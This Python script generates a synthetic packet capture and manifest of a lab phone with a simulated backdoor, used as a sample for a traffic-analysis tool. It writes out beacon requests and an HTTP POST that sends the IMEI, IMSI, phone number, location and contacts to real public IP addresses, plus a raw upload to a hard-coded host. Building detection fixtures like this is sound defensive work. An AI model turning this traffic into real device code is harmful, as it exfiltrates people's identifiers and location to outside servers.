#!/usr/bin/env python3
"""Writes the sample capture the README's first command scans: a "mini phone" with a backdoor, on a lab Wi-Fi.

Usage: scripts/gen_sample.py [OUT.pcap] [MANIFEST.json]   (defaults: captures/sample/backdoor-phone.pcap, .json)
Deterministic (fixed seed and clock). What the device does, in capture order (all recorded in the manifest):
- DHCP: DISCOVER/OFFER/REQUEST/ACK, hostname "mini-phone-x9", vendor class "android-dhcp-9".
- DNS through the router (192.168.1.1): www.free.fr -> 212.27.48.10 (Free, FR), www.gandi.net -> 217.70.184.38
  (Gandi, FR), update.oportik-cloud.cn -> CNAME edge.oportik-cloud.cn -> 120.77.166.21 (Alibaba, CN).
- Benign HTTPS to the two French servers (TLS 1.2 ClientHello with SNI, a short exchange, FIN).
- A beacon to 120.77.166.21:8080 every 60 s (jitter up to 2 s), 12 times: a small HTTP GET /ping.
- An HTTP POST to update.oportik-cloud.cn:80 /api/v2/report with the device's IMEI, IMSI, phone number and location.
- A hard-coded address (no DNS): 45.77.0.1:5555 (The Constant Company, US), a raw upload of 24 KB.
Packet builders: scripts/pcapgen.py (shared with scripts/gen_scenarios.py).
Addresses outside the lab are real public ones on purpose (the file is only read, never replayed): they give the
geolocation something to find. Nothing here is sent anywhere.
"""
import json, random, sys
from pcapgen import Capture, client_hello, server_hello, app_data as tls_app_data

OUT = sys.argv[1] if len(sys.argv) > 1 else "captures/sample/backdoor-phone.pcap"
MANIFEST = sys.argv[2] if len(sys.argv) > 2 else "captures/sample/backdoor-phone.json"
rng = random.Random(2025)
T0 = 1741942800.0  # 2025-03-14T09:00:00Z
PHONE = "192.168.1.23"
IMEI, IMSI, MSISDN = "356938035643809", "208150123456789", "+33612345678"
LAT, LON = 48.8566, 2.3522
cap = Capture(rng, device=PHONE, router="192.168.1.1")
manifest = {"device": {"mac": "02:a4:c2:11:33:02", "ip": PHONE, "hostname": "mini-phone-x9", "vendor_class": "android-dhcp-9"},
            "dns": cap.dns_log, "tls": [], "beacons": [], "uploads": [], "flows": cap.flow_log}


def app_data(total):
    return tls_app_data(rng, total)


def main():
    t = T0
    for k, (typ, phone) in enumerate([(1, True), (2, False), (3, True), (5, False)]):
        cap.dhcp(t + k * 0.05, typ, phone)
    t += 1
    cap.dns(t, 101, "www.free.fr", [("www.free.fr", "A", "212.27.48.10")])
    cap.dns(t + 0.2, 102, "www.gandi.net", [("www.gandi.net", "A", "217.70.184.38")])
    cap.dns(t + 0.4, 103, "update.oportik-cloud.cn", [("update.oportik-cloud.cn", "CNAME", "edge.oportik-cloud.cn"),
                                                  ("edge.oportik-cloud.cn", "A", "120.77.166.21")])
    for k, (server, sni) in enumerate([("212.27.48.10", "www.free.fr"), ("217.70.184.38", "www.gandi.net")]):
        c = cap.tcp(t + 1 + k, server, 50100 + k, 443)
        c.send(client_hello(rng, sni))
        c.reply(server_hello(rng))
        c.send(app_data(600))
        c.reply(app_data(9000))
        c.close()
        manifest["tls"].append({"server": server, "sni": sni})
    # Beacons: a GET every 60 s (+/- 2 s) to the foreign host, on a non-standard port.
    start = t + 10
    for k in range(12):
        bt = start + 60 * k + rng.uniform(-2, 2)
        c = cap.tcp(bt, "120.77.166.21", 51000 + k, 8080)
        c.send(b"GET /ping?id=x9 HTTP/1.1\r\nHost: edge.oportik-cloud.cn:8080\r\nUser-Agent: okhttp/3.12.1\r\n\r\n")
        c.reply(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        c.close()
        manifest["beacons"].append({"time": bt, "server": "120.77.166.21", "port": 8080})
    # The identifier upload.
    body = json.dumps({"imei": IMEI, "imsi": IMSI, "msisdn": MSISDN, "lat": LAT, "lon": LON,
                       "contacts": ["+33698765432", "+33145678901"], "sms_count": 214}).encode()
    c = cap.tcp(start + 125, "120.77.166.21", 52000, 80)
    c.send(b"POST /api/v2/report HTTP/1.1\r\nHost: update.oportik-cloud.cn\r\nUser-Agent: okhttp/3.12.1\r\n"
           b"Content-Type: application/json\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
    c.reply(b"HTTP/1.1 200 OK\r\nContent-Length: 11\r\n\r\n{\"ok\":true}")
    c.close()
    manifest["uploads"].append({"time": start + 125, "server": "120.77.166.21", "host": "update.oportik-cloud.cn",
                                "path": "/api/v2/report",
                                "identifiers": {"imei": IMEI, "imsi": IMSI, "msisdn": MSISDN, "location": f"{LAT},{LON}"},
                                "body_bytes": len(body)})
    # A hard-coded address, no DNS: a raw 24 KB upload.
    c = cap.tcp(start + 300, "45.77.0.1", 53000, 5555)
    c.send(bytes(rng.randrange(256) for _ in range(24_000)))
    c.reply(b"\x00\x01")
    c.close()
    n = cap.write(OUT)
    manifest["packets"] = n
    json.dump(manifest, open(MANIFEST, "w"), indent=1)
    print(f"{OUT}: {n} packets, {len(manifest['flows'])} TCP connections")


if __name__ == "__main__":
    main()
